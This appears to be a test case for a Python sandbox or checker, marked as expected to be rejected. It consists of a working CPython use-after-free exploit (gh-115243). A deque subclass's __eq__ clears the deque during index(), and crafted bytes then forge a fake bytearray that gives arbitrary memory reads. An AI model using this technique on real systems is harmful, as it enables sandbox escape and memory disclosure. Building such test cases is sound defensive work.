# expect: reject memory
# line: 14
# why: round 69: a deque subclass's pure __eq__ called super().clear(), a base's method no def of the program's answers, and emptied the deque deque.index was searching (gh-115243): raw memory; through super() only a def of the program's or a method that changes nothing
import collections

N = 25
state = {"a": b"", "b": b""}


class DQ(collections.deque):
    """a pure __eq__: binds locals only, calls super()'s method and + of two constants"""

    def __eq__(self, other):
        super().clear()
        tmp = state["a"] + state["b"]
        return len(tmp) > 0

    __hash__ = None


class Probe:
    def __eq__(self, other):
        raise LookupError(self)

    __hash__ = None


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq = DQ()
dq.append(tuple([1, 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
block = id(dq[0]) - 16
fake = block + 64
# a bytes object reclaiming the tuple's block: header 32 bytes, data at block+32;
# the tuple's ob_item[1] (block+48) is data[16:24]; the fake Probe at block+64
data = w8(0) + w8(0) + w8(fake) + w8(0) + w8(1 << 40) + w8(id(Probe))
pay = data + bytes(200 - len(data))
state["a"] = pay[:100]
state["b"] = pay[100:]
hdr = bytes(64) + b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]]) + bytes(112)
held = []
mem = None
try:
    dq.index(tuple([dq, Probe()] + [0] * (N - 2)))
except LookupError as e:
    mem = e.args[0]
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
for i in range(64):
    if type(mem) is bytearray:
        break
    held.append(bytearray(hdr))
print("caught:", hex(id(mem)), "fake was", hex(fake), "after", len(held), "bytearrays")
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
